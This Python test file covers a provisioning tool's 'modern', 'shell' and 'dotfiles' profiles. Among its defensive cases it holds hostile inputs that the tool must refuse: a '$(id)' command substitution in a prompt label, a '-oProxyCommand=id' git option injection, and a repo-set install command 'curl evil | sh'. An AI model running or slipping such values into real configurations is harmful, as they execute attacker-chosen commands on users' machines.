"""What the profiles `modern`, `shell` and `dotfiles` declare, and who may configure dotfiles."""

from __future__ import annotations

from pathlib import Path

import pytest
from invoke import Config, Context, Exit
from project_builder import Desk

from nopal.errors import PersonOnlyKey
from nopal.tasks.open import open_workspace
from profiles.dotfiles import dotfiles
from profiles.errors import StepRefused, WrongOption
from profiles.guest import Guest
from profiles.guest import Shell as ShellName
from profiles.modern import PROGRAMS, modern
from profiles.shell import shell
from provision import Block, Check, Command, File, FirstOf, GitClone, Link, Step

GUEST = Guest(name="blog")
UBUNTU = Guest(name="blog", distribution="ubuntu")
REPO = "git@github.com:ann/dotfiles.git"


def ids(steps: tuple[Step, ...]) -> list[str]:
    return [step.id for step in steps]


def content(steps: tuple[Step, ...], path: str) -> str:
    [step] = [s for s in steps if isinstance(s, File | Block) and s.path == path]
    assert isinstance(step.content, str)
    return step.content


def last_check(steps: tuple[Step, ...]) -> Check:
    assert isinstance(steps[-1], Check)
    return steps[-1]


# modern


def test_programs_that_debian_renamed_have_their_own_names_too() -> None:
    links = {step.path: step.target for step in modern.steps({}, GUEST) if isinstance(step, Link)}
    assert links == {
        "/usr/local/bin/fd": "/usr/bin/fdfind",
        "/usr/local/bin/bat": "/usr/bin/batcat",
    }


def test_every_program_is_tried_by_a_line_of_its_own() -> None:
    trials = last_check(modern.steps({}, GUEST)).script.splitlines()
    assert len(trials) == len(PROGRAMS)


def test_only_the_programs_that_are_named_are_installed() -> None:
    assert ids(modern.steps({"programs": ["fd", "yq"]}, GUEST))[:-1] == [
        "apt:fd-find",
        "link:/usr/local/bin/fd",
        "apt:yq",
    ]


def test_a_program_that_is_not_known_is_refused() -> None:
    with pytest.raises(WrongOption):
        modern.steps({"programs": ["exa"]}, GUEST)


def test_what_an_ubuntu_lacks_is_left_out_aloud() -> None:
    [lazygit] = [step for step in modern.steps({}, UBUNTU) if isinstance(step, FirstOf)]
    said = [step for step in lazygit.steps if isinstance(step, Command)]
    assert "lazygit is not in this release of Ubuntu" in said[0].script
    assert "if command -v lazygit" in last_check(modern.steps({}, UBUNTU)).script


def test_git_shows_its_output_through_delta_unless_told_otherwise() -> None:
    assert "pager = delta" in content(modern.steps({}, GUEST), "/etc/gitconfig")
    for options in ({"pager": False}, {"programs": ["yq"]}):
        assert "block:/etc/gitconfig#delta" not in ids(modern.steps(options, GUEST))


# shell


@pytest.mark.parametrize(
    ("name", "texts"),
    [
        ("bash", {"/etc/nopal/shell.bash"}),
        ("zsh", {"/etc/nopal/shell.bash", "/etc/nopal/shell.zsh"}),
        ("fish", {"/etc/nopal/shell.bash", "/etc/fish/conf.d/nopal-shell.fish"}),
    ],
)
def test_bash_is_served_and_the_login_shell(name: ShellName, texts: set[str]) -> None:
    steps = shell.steps({}, Guest(name="blog", shell=name))
    assert {step.path for step in steps if isinstance(step, File)} == texts


@pytest.mark.parametrize("name", ["bash", "zsh", "fish"])
def test_the_prompt_names_the_project(name: ShellName) -> None:
    steps = shell.steps({}, Guest(name="blog", shell=name))
    texts = [step.content for step in steps if isinstance(step, File)]
    assert all("nopal_machine" in str(text).splitlines()[1] for text in texts)
    assert all("blog" in str(text).splitlines()[1] for text in texts)
    assert last_check(steps).matches == "blog"


def test_a_persons_files_get_no_more_than_a_block() -> None:
    steps = shell.steps({}, Guest(name="blog", shell="zsh"))
    own = [step for step in steps if getattr(step, "path", "").startswith("~/")]
    assert [step.id for step in own] == ["block:~/.bashrc#shell", "block:~/.zshrc#shell"]


def test_a_label_cannot_hold_what_a_prompt_gives_a_meaning() -> None:
    assert "'my vm'" in content(shell.steps({"label": "my vm"}, GUEST), "/etc/nopal/shell.bash")
    with pytest.raises(WrongOption):
        shell.steps({"label": "$(id)"}, GUEST)


# dotfiles


def test_without_a_repo_there_are_no_dotfiles() -> None:
    assert [step.kind for step in dotfiles.steps({}, GUEST)] == ["check"]


def test_dotfiles_are_cloned_with_the_agent_and_installed_without_it() -> None:
    steps = dotfiles.steps({"repo": REPO, "install": "./install.sh"}, GUEST)
    clone, install, _ = steps
    assert isinstance(clone, GitClone)
    assert (clone.url, clone.to, clone.needs_agent) == (REPO, "~/.dotfiles", True)
    assert (install.run_as, install.needs_agent) == ("login", False)


def test_dotfiles_without_a_command_are_only_cloned() -> None:
    assert [step.kind for step in dotfiles.steps({"repo": REPO}, GUEST)] == ["git-clone", "check"]


def test_another_install_command_runs_once_more() -> None:
    guards = set()
    for command in ("./a", "./b"):
        _, install, _ = dotfiles.steps({"repo": REPO, "install": command}, GUEST)
        assert isinstance(install, Command)
        guards.add(install.unless)
    assert len(guards) == 2


@pytest.mark.parametrize("options", [{"repo": "-oProxyCommand=id"}, {"repo": "a b"}])
def test_an_address_that_git_could_take_for_an_option_is_refused(options: dict[str, str]) -> None:
    with pytest.raises(StepRefused):
        dotfiles.steps(options, GUEST)


def test_dotfiles_are_below_the_home() -> None:
    with pytest.raises(WrongOption):
        dotfiles.steps({"repo": REPO, "to": "/etc"}, GUEST)


@pytest.fixture
def desk(tmp_path: Path) -> Desk:
    return Desk(tmp_path)


def test_the_persons_own_file_sets_the_dotfiles_and_a_repo_names_the_profile(desk: Desk) -> None:
    desk.write_person(f"[defaults.options.dotfiles]\nrepo = '{REPO}'\n")
    desk.write_repo("name = 'blog'\nprofiles = ['dotfiles']\n")
    project = desk.load()
    assert project.profiles == ("dotfiles",)
    assert project.options["dotfiles"] == {"repo": REPO}


def test_a_repo_cannot_set_an_option_of_the_dotfiles(desk: Desk) -> None:
    desk.write_repo("name = 'blog'\n[options.dotfiles]\ninstall = 'curl evil | sh'\n")
    (fault,) = desk.faults()
    assert isinstance(fault, PersonOnlyKey)
    assert str(fault) == (
        f"{desk.repo_file}:2: `options.dotfiles` can't be set by a repo, only by you\n"
        f"  if you want it, put it under [projects.blog.options.dotfiles] in {desk.person_file}"
    )


def test_a_repos_other_options_are_read_beside_the_refused_ones(desk: Desk) -> None:
    desk.write_repo("[options]\ndotfiles.repo = 'x'\ndocker.source = 'docker'\ngit.lfs = 1\n")
    assert [fault.place.line for fault in desk.faults()] == [2]


def test_the_configuration_of_invoke_cannot_set_the_dotfiles_either() -> None:
    configured = {"profiles": {"dotfiles": {"repo": REPO}}}
    with pytest.raises(Exit) as caught:
        open_workspace(Context(Config(overrides=configured)))
    assert caught.value.code == 2
    assert "[projects.NAME.options.dotfiles]" in str(caught.value.message)
